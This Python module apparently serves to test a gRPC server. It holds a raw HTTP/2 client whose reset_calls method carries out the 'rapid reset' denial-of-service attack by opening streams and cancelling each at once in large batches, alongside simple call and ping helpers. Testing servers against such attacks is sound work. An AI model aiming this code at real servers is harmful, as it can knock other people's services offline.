"""An HTTP/2 client that sends frames which gRPC's clients never send."""

from __future__ import annotations

import select
import socket
import struct
from typing import Final

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
_END_STREAM, _END_HEADERS, _ACK = 0x1, 0x4, 0x1
_CANCEL: Final = struct.pack(">I", 0x8)


class RawHttp2Client:
    """One connection to a server, without flow control."""

    def __init__(self, host: str, port: int) -> None:
        self._socket = socket.create_connection((host, port), timeout=20)
        self._next_stream = 1
        self._received = b""
        try:
            self._socket.sendall(_PREFACE + _frame(_SETTINGS, 0, 0))
        except OSError:
            self._socket.close()
            raise

    def reset_calls(self, path: str, count: int) -> None:
        """Opens calls and resets each one at once, as in the attack "HTTP/2 rapid reset".

        Raises:
            OSError: the server has closed the connection.
        """
        headers = _headers(path)
        frames = []
        for _ in range(count):
            frames.append(_frame(_HEADERS, _END_HEADERS, self._next_stream, headers))
            frames.append(_frame(_RST_STREAM, 0, self._next_stream, _CANCEL))
            self._next_stream += 2
        unsent = memoryview(b"".join(frames))
        while unsent:  # a server stops reading from a client that does not read
            readable, writable, _ = select.select([self._socket], [self._socket], [], 20)
            if not readable and not writable:
                raise TimeoutError("the server has stopped reading")
            if readable and not self._socket.recv(1 << 20):
                raise ConnectionError("the server has closed the connection")
            if writable:
                unsent = unsent[self._socket.send(unsent, socket.MSG_DONTWAIT) :]

    def call(self, path: str, message: bytes) -> None:
        """Sends a whole request of one message, and reads nothing."""
        data = struct.pack(">BI", 0, len(message)) + message
        headers = _frame(_HEADERS, _END_HEADERS, self._next_stream, _headers(path))
        self._socket.sendall(headers + _frame(_DATA, _END_STREAM, self._next_stream, data))
        self._next_stream += 2

    def ping(self) -> None:
        """Sends a ping and waits for its acknowledgement.

        Raises:
            ConnectionError: the server has closed the connection, or is about to.
        """
        self._socket.sendall(_frame(_PING, 0, 0, b"12345678"))
        while True:
            kind, flags, payload = self._receive()
            if kind == _PING and flags & _ACK:
                return
            if kind == _GOAWAY:
                raise ConnectionError(f"the server says goodbye: {payload[8:].decode()}")

    def close(self) -> None:
        """Closes the connection."""
        self._socket.close()

    def _receive(self) -> tuple[int, int, bytes]:
        """Returns kind, flags and payload of the next frame that is not about flow control; acknowledges settings."""
        while True:
            header = self._take(9)
            payload = self._take(int.from_bytes(header[:3], "big"))
            kind, flags = header[3], header[4]
            if kind == _SETTINGS and not flags & _ACK:
                self._socket.sendall(_frame(_SETTINGS, _ACK, 0))
            elif kind == _PING and not flags & _ACK:
                self._socket.sendall(_frame(_PING, _ACK, 0, payload))
            else:
                return kind, flags, payload

    def _take(self, size: int) -> bytes:
        while len(self._received) < size:
            more = self._socket.recv(1 << 16)
            if not more:
                raise ConnectionError("the server has closed the connection")
            self._received += more
        taken, self._received = self._received[:size], self._received[size:]
        return taken


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _headers(path: str) -> bytes:
    return b"".join(
        _literal(name, value)
        for name, value in (
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", "server"),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
        )
    )


def _literal(name: str, value: str) -> bytes:
    """One header for HPACK: new name, not indexed, no Huffman code."""
    assert len(name) < 127 > len(value), "longer ones need a longer prefix"
    return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
